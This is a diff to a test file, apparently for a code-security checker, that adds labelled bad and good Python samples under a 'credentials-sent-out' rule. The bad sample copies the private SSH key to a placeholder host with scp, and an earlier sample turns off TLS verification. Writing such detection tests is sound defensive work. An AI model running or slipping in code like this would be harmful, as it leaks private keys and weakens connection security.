@@ -313,6 +313,12 @@ const pairs: readonly Pair[] = [
     bad: 'import requests\ndef f():\n    s = requests.Session()\n    setattr(s, "verify", False)\n',
     good: 'import requests\ndef f():\n    s = requests.Session()\n    setattr(s, "verify", True)\n',
   },
+  {
+    name: 'to another machine, unless to sign in there',
+    rule: 'credentials-sent-out',
+    bad: 'import os\ndef f():\n    os.system("scp ~/.ssh/id_rsa u@x.example:/in/")\n',
+    good: 'import os\ndef f():\n    os.system("scp -i ~/.ssh/id_rsa /tmp/a u@x.example:/in/")\n',
+  },
 ];
 
 describe('a danger is followed as far as a reviewer would, and no further', () => {
